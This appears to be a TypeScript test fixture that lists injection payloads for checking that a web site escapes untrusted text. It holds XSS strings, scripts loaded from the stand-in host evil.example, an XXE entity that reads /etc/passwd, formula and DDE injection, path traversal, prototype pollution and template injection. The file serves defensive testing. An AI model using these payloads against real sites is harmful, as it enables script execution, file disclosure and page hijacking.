import { hostileTexts } from '../hostileTexts.ts';

/** What a payload sets where it runs, in the window of a page. */
export const MARK = 'attackRan';
/** A host that no page may ask for anything. */
export const EVIL = 'evil.example';

const RUN = `${MARK}=1,alert(1)`;

/** Lines that run, ask another host or break a format where one place of the site forgets to escape. */
export const PAYLOADS: readonly string[] = [
  `"><img src=x onerror="${RUN}">`,
  `' onfocus='${RUN}' autofocus tabindex=1 '`,
  `</script><script>${RUN}</script>`,
  `</title></head><body onload="${RUN}">`,
  `</textarea></template><svg onload="${RUN}">`,
  `--><script src=https://${EVIL}/a.js></script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script><![CDATA[`,
  `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
  `javascript:${RUN}`,
  `[press](javascript:${RUN})`,
  `<a href="java\tscript:${RUN}">press</a>`,
  `<link rel=stylesheet href=https://${EVIL}/a.css><base href=https://${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `<iframe src=https://${EVIL}/></iframe>`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\u202egpj.lamp\u2066 ${RUN}`,
  `\u001b]0;lamps\u0007\u001b[2J\u009b31m`,
  `},\n@misc{evil, title = {${RUN}}`.replace('\n', ' '),
  'ER  - TY  - JOUR UR  - javascript:alert(1)',
  '=HYPERLINK("https://evil.example/","press")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '!!js/function "alert(1)" &a [*a, *a]',
  '../../../../etc/passwd',
  '..%2f..%2findex.html',
  '__proto__',
  'toString',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
  ...hostileTexts().payloads.filter((_, at) => at % 6 === 0),
];
